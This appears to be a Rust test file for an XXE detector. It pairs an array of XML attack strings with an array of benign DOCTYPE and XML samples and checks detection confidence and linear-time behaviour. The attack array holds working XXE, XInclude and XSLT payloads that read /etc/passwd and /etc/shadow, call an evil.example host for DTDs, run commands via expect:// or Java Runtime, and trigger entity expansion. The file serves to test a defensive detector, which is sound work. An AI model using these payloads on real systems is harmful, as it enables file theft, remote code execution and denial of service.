use super::super::properties::check_properties;
use super::super::tests::{check_table, confidence};
use super::super::{Context, Detector, Place};

const ATTACKS: &[&str] = &[
    "<a xmlns:i=\"http://www.w3.org/2001/XInclude\"><i:include href=\"legal.xml\"/><i:include href=\"file:///etc/passwd\" parse=\"text\"/></a>",
    "<xsl:copy-of select=\"document('/etc/passwd')\"/>",
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///c:/windows/win.ini'>]><r>&x;</r>",
    "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://evil.example/x.dtd\"> %d;]><r/>",
    "<!DOCTYPE r [<!ENTITY %d SYSTEM \"http://evil.example/x.dtd\">%d;]>",
    "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
    "<!DOCTYPE r SYSTEM 'file:///etc/passwd'>",
    "<!DOCTYPE r PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil.example/x.dtd\">",
    "<!DOCTYPE r PUBLIC \"-//A//B\" \"//evil.example/x\">",
    "<!doctype r system \"ftp://evil.example/x\">",
    "<!DOCTYPE\nfoo\n[\n<!ENTITY\nxxe\nSYSTEM\n\"file:///etc/shadow\"\n>]>",
    "<!ENTITY xxe PUBLIC \"any\" \"http://evil.example/\">",
    "<!ENTITY x SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">",
    "<!ENTITY x SYSTEM \"expect://id\">",
    "<!ENTITY x SYSTEM \"jar:http://evil.example/a.jar!/x\">",
    "<!ENTITY x SYSTEM \"netdoc:///etc/passwd\">",
    "<!ENTITY x SYSTEM \"gopher://127.0.0.1:25/x\">",
    "<!ENTITY x SYSTEM \"data://text/plain;base64,eA==\">",
    "<!ENTITY x SYSTEM \"//evil.example/share\">",
    "<!ENTITY x SYSTEM \"file:///etc/passwd",
    "<!ENTITY % file \"abc\">",
    "<!ENTITY % a '<!ENTITY &#x25; b SYSTEM \"x\">'>",
    "<!DOCTYPE r [<!ENTITY % local SYSTEM \"file:///usr/share/xml/fontconfig/fonts.dtd\"><!ENTITY % expr 'aaa'>%local;]>",
    "<!DOCTYPE r [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;\">]><r>&d;</r>",
    "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY l2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY l3 \"&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;\">]>",
    "<!DOCTYPE r [<!ENTITY a \"&a;\">]>",
    "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></r>",
    "<foo xmlns:x=\"http://www.w3.org/2001/XInclude\"><x:include href=\"/etc/passwd\" parse=\"text\"/></foo>",
    "<xi:include href=\"http://evil.example/\"/>",
    "<xsl:include href=\"http://evil.example/x.xsl\"/>",
    "<xsl:import href='file:///etc/x'/>",
    "<xsl:value-of select=\"document('/etc/passwd')\"/>",
    "<xsl:copy-of select=\"document('http://evil.example/')\"/>",
    "<xsl:stylesheet xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\">",
    "<xsl:stylesheet xmlns:p='java:java.lang.Runtime'>",
    "<xsl:stylesheet xmlns:user='urn:schemas-microsoft-com:xslt'><msxsl:script language='C#'>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE foo [ <!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM \"http://127.0.0.1:8080/\" >]><foo>&xxe;</foo>",
    "<!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><svg>&e;</svg>",
    "prefix <!DOCTYPE a [<!ENTITY b SYSTEM 'x'>]>",
    "<!DOCTYPE replace [<!ENTITY ent SYSTEM \"/etc/passwd\">]>",
    "<!DOCTYPE x [<!ENTITY % y SYSTEM \"\\\\evil.example\\x\">%y;]>",
    "<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM \"http://evil.example/\"> %dtd;]><xxx/>]]></foo></soap:Body>",
];

const HONEST: &[&str] = &[
    "Set doc = ui.OpenDocument(\"/home/wang/排班.ods\")",
    "const page = parser.createDocument('/report/1')",
    "<!DOCTYPE html>",
    "<!doctype html><html><body>x</body></html>",
    "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\" \"http://www.w3.org/TR/html4/strict.dtd\">",
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">",
    "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
    "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
    "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\"><!ENTITY ns_xlink \"http://www.w3.org/1999/xlink\">]>",
    "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
    "<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" \"http://mybatis.org/dtd/mybatis-3-mapper.dtd\">",
    "<!DOCTYPE hibernate-configuration PUBLIC \"-//Hibernate//DTD\" \"http://www.hibernate.org/dtd/hibernate-configuration-3.0.dtd\">",
    "<!DOCTYPE struts PUBLIC \"-//Apache Software Foundation//DTD Struts Configuration 2.0//EN\" \"http://struts.apache.org/dtds/struts-2.0.dtd\">",
    "<!DOCTYPE web-app PUBLIC \"-//Sun Microsystems, Inc.//DTD Web Application 2.3//EN\" \"http://java.sun.com/dtd/web-app_2_3.dtd\">",
    "<!DOCTYPE wml PUBLIC \"-//WAPFORUM//DTD WML 1.1//EN\" \"http://www.wapforum.org/DTD/wml_1.1.xml\">",
    "<!DOCTYPE labelled SYSTEM \"labelled.dtd\">",
    "<!DOCTYPE r [<!ENTITY copy \"©\"><!ENTITY company \"医院 &copy;\">]><r>&company;</r>",
    "<!DOCTYPE r [<!ELEMENT r ANY><!ATTLIST r a CDATA #IMPLIED>]>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>1</id><name>王</name></order>",
    "<xml><appid><![CDATA[wx2421b1c4370ec43b]]></appid></xml>",
    "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
    "<include>yes</include>",
    "<jsp:include page=\"a.jsp\"/>",
    "#include <stdio.h>",
    "please include the document",
    "document (final)",
    "document('cookie')",
    "&nbsp;&lt;120&gt;",
    "&copy; 2026",
    "<!-- comment -->",
    "<![CDATA[x]]>",
    "<?xml-stylesheet type=\"text/xsl\" href=\"CDA.xsl\"?>",
    "<ClinicalDocument xmlns=\"urn:hl7-org:v3\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:hl7-org:v3 CDA.xsd\">",
    "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"/></xsl:stylesheet>",
    "entity relationship",
    "<entity name=\"x\"/>",
    "DOCTYPE 是什么",
    "<!DOCTYPE",
    "<!ENTITY",
    "<!DOCTYPE >",
    "<rss xmlns:content=\"http://purl.org/rss/1.0/modules/content/\">",
    "<x:xmpmeta xmlns:x='adobe:ns:meta/'>",
    "<include layout=\"@layout/title\" />",
];

#[test]
fn documents_that_fetch_or_multiply_are_confirmed() {
    check_table(Detector::Xxe, Context::of(Place::BodyText), 80, ATTACKS, HONEST);
}

#[test]
fn a_manual_that_includes_its_neighbour_counts_but_does_not_block() {
    for attributes in [
        "xmlns=\"http://www.w3.org/2001/XInclude\" href=\"legal.xml\"",
        "href=\"parts.page\" xpointer=\"xpointer(/*/*[@xml:id='a'])\" xmlns=\"http://www.w3.org/2001/XInclude\"",
    ] {
        let manual = format!("<page><include {attributes}/></page>");
        let sure = confidence(Detector::Xxe, manual.as_bytes(), Context::of(Place::BodyText));
        assert!((60..80).contains(&sure), "{sure} for {manual}");
    }
}

#[test]
fn xxe_findings_meet_the_requirement_in_linear_work() {
    check_properties(
        Detector::Xxe,
        &[
            "<!DOCTYPE ",
            "<!ENTITY ",
            "r ",
            "[",
            "]>",
            ">",
            "%",
            " SYSTEM ",
            " PUBLIC ",
            "\"",
            "'",
            "file:///x",
            "http://www.w3.org/x",
            "&a;",
            "a",
            "<xi:include ",
            "href=\"x",
            "http://www.w3.org/2001/XInclude",
            "<xsl:include href=\"http://",
            "document('/",
            "xmlns:x='java:",
            "<!ENTITY a \"&a;&a;\">",
            "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">",
            "\n",
        ],
    );
}
